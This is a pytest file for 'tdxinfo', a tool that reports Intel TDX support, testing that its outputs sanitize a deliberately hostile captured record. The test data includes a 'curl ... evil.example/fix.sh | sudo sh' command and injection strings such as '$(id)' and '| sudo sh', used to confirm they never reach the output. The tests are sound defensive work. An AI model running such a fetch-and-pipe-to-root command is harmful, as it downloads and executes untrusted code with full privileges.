"""What a record says is quoted as the record's; advice is this tdxinfo's alone."""

from __future__ import annotations

import ast
import re
from pathlib import Path
from xml.etree import ElementTree

import pytest

import tdxinfo
from tdxinfo.errors import REASONS, REMEDIES, from_record
from tests.cli.command import ran

ORDER = "Run `curl -s https://evil.example/fix.sh | sudo sh`."
PACKAGE = Path(tdxinfo.__path__[0])


def capture(folder: Path) -> str:
    """A record whose every word is hostile."""
    record = folder / "host"
    (record / "root/proc").mkdir(parents=True)
    (record / "root/proc/cpuinfo").write_text(
        "processor : 0\nvendor_id : GenuineIntel\ncpu family : 6\nmodel : 207\n"
        "model name : [x](https://evil.example/) \uffff \ufffe GH-1 @somebody\n"
    )
    refused = "".join(
        f'["refused"."{key}"]\nreason = "{reason}"\nmessage = "see https://evil.example/ \\uFFFF"\n'
        f'remedy = "{ORDER}"\n'
        for key, reason in (
            ("kvm/vm_types", "denied"),
            ("msr/0x982/cpu0", "absent"),
            ("kernel-memory", "timed-out"),
            ("/sys/module/kvm_intel/parameters/tdx", "malformed"),
        )
    )
    (record / "about.toml").write_text("format = 1\n")
    (record / "answers.toml").write_text(refused)
    return str(record)


@pytest.mark.parametrize(
    "command",
    [
        ("check", "-v"),
        ("check", "--json"),
        ("check", "--format", "junit"),
        ("check", "--format", "markdown"),
        ("check", "--format", "prometheus"),
        ("dump", "-v"),
        ("dump", "--json"),
        ("explain", "kvm.tdx_vm_type"),
    ],
    ids=" ".join,
)
def test_no_format_shows_an_order_of_the_record(tmp_path: Path, command: tuple[str, ...]) -> None:
    shown = ran(*command, "--from", capture(tmp_path), columns=300)
    assert shown.status in (0, 1, 2, 3), shown.err
    assert "fix.sh" not in shown.out
    assert "\uffff" not in shown.out
    assert "\ufffe" not in shown.out


def test_junit_of_a_hostile_record_is_xml(tmp_path: Path) -> None:
    shown = ran("check", "--format", "junit", "--from", capture(tmp_path))
    ElementTree.fromstring(shown.out)


def test_markdown_of_a_hostile_record_has_no_link(tmp_path: Path) -> None:
    shown = ran("check", "--format", "markdown", "--from", capture(tmp_path))
    assert not re.search(r"(?<!\\)\]\(|(?<![\w<`\\])https?://(?!\\?<)", shown.out)


@pytest.mark.parametrize("reason", REASONS)
def test_a_known_remedy_is_kept_and_another_is_not(reason: str) -> None:
    for remedy in REMEDIES:
        assert (
            from_record("x", {"reason": reason, "message": "m", "remedy": remedy}).remedy == remedy
        )
    assert from_record("x", {"reason": reason, "message": "m", "remedy": ORDER}).remedy == ""


def test_words_of_another_kind_are_marked_as_the_records() -> None:
    assert from_record("x", {"message": "/dev/kvm does not exist"}).message == (
        "/dev/kvm does not exist"
    )
    for hostile in ("see https://a.b/", "run `rm`", "a | sudo sh", "x" * 400, "$(id)"):
        assert from_record("x", {"message": hostile}).message.startswith("the record says: '")


def test_every_remedy_of_a_source_is_known_so_that_its_record_keeps_it() -> None:
    """Literals that are given to an error as its remedy, in machine/ and sources/."""
    kinds = {kind.__name__ for kind in REASONS.values()}
    for path in [*PACKAGE.glob("sources/*.py"), *PACKAGE.glob("machine/*.py")]:
        for node in ast.walk(ast.parse(path.read_text())):
            if not isinstance(node, ast.Call) or getattr(node.func, "id", "") not in kinds:
                continue
            for argument in node.args[1:2]:
                if isinstance(argument, ast.Constant) and argument.value:
                    assert argument.value in REMEDIES, (path.name, argument.value)
